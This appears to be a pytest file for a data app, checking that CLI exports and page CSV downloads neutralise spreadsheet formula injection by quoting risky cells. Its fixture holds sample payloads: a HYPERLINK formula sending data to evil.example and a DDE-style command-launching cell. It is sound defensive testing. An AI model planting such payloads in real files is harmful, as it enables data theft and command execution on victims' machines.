"""Attack: an account named like a spreadsheet formula runs when a colleague opens an export.

``cli.py export`` and every page's CSV download must write text cells that start with
``= + - @``, a tab or a carriage return with a leading single quote (OWASP), and leave
numbers (negative ones included) alone.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from cli import main as cli_main
from data import users as user_store
from data.export import FORMULA_START, csv_bytes, neutralise_formulas
from tests.support.apptest import record_downloads, run_app
from tests.support.workspaces import build_workspace

EVIL = {
    "A0001": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
    "A0002": "@SUM(1+1)*cmd|' /C calc'!A0",
    "A0003": "+1-2",
    "A0004": "-2+3",
}


def _rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


@pytest.fixture()
def evil_ws(tmp_path, monkeypatch):
    """A workspace whose accounts were re-imported (through the CLI) with formula names."""
    ws = build_workspace(tmp_path / "ws", n=5, scores=False)
    user_store.add_user(ws.settings.auth_file, "boss", role="manager", password="boss-password-1")
    monkeypatch.setenv("CSAI_WORKSPACE", str(ws.path))
    with ws.warehouse.reader() as con:
        accounts = con.execute("SELECT * FROM accounts ORDER BY account_id").df()
    accounts["name"] = [EVIL.get(a, n) for a, n in zip(accounts["account_id"], accounts["name"], strict=True)]
    source = tmp_path / "accounts.csv"
    accounts.to_csv(source, index=False)
    assert cli_main(["--workspace", str(ws.path), "import", "accounts", str(source), "--mode", "replace"]) == 0
    return ws


def test_cli_export_neutralises_formula_names(evil_ws, tmp_path):
    out = tmp_path / "accounts_export.csv"
    assert cli_main(["--workspace", str(evil_ws.path), "export", "accounts", str(out)]) == 0
    rows = _rows(out.read_text())
    _assert_inert(rows)
    names = {r[0]: r[1] for r in rows[1:]}
    for account_id, name in EVIL.items():
        assert names[account_id] == "'" + name
    assert names["A0005"] == "Company 5"


def test_cli_export_keeps_negative_numbers(evil_ws, tmp_path):
    with evil_ws.warehouse.writer("results") as con:
        con.execute("CREATE TABLE adjustments AS SELECT * FROM (VALUES ('A0001', -125.5, -3, '-3 seats'), "
                    "('A0002', 10.0, 2, 'ok')) t(account_id, amount, seats, note)")
    out = tmp_path / "adjustments.csv"
    assert cli_main(["--workspace", str(evil_ws.path), "export", "adjustments", str(out)]) == 0
    rows = _rows(out.read_text())
    assert rows[1] == ["A0001", "-125.5", "-3", "'-3 seats"]
    assert rows[2] == ["A0002", "10.0", "2", "ok"]
    parquet = tmp_path / "accounts.parquet"  # not a spreadsheet format: values stay exact
    assert cli_main(["--workspace", str(evil_ws.path), "export", "accounts", str(parquet)]) == 0
    assert EVIL["A0001"] in pd.read_parquet(parquet)["name"].tolist()


def test_the_accounts_page_download_is_neutralised(evil_ws, monkeypatch):
    served = record_downloads(monkeypatch)
    at = run_app("boss", "views/accounts.py")
    assert not at.exception
    data = served["export_accounts"]
    rows = _rows(data() if callable(data) else data)
    _assert_inert(rows)
    header = rows[0]
    names = [r[header.index("name")] for r in rows[1:]]
    assert "'" + EVIL["A0001"] in names and "'" + EVIL["A0004"] in names


def test_the_helper_touches_text_only():
    frame = pd.DataFrame({"name": ["=1+1", "\tx", "\rcmd", "Acme", None], "delta": [-0.5, -1.0, 2.0, 0.0, None],
                          "count": [-3, 1, 2, 3, 4], "when": pd.to_datetime(["2026-01-01"] * 5)})
    fixed = neutralise_formulas(frame)
    assert fixed["name"].tolist()[:4] == ["'=1+1", "'\tx", "'\rcmd", "Acme"] and pd.isna(fixed["name"].iloc[4])
    assert fixed["delta"].tolist()[:4] == [-0.5, -1.0, 2.0, 0.0] and fixed["count"].tolist() == [-3, 1, 2, 3, 4]
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is left as it was
    twice = pd.concat([frame, frame])  # repeated index labels (a concatenated page table)
    assert neutralise_formulas(twice)["name"].tolist()[5] == "'=1+1"
    rows = _rows(csv_bytes(frame))
    assert rows[1][:3] == ["'=1+1", "-0.5", "-3"]
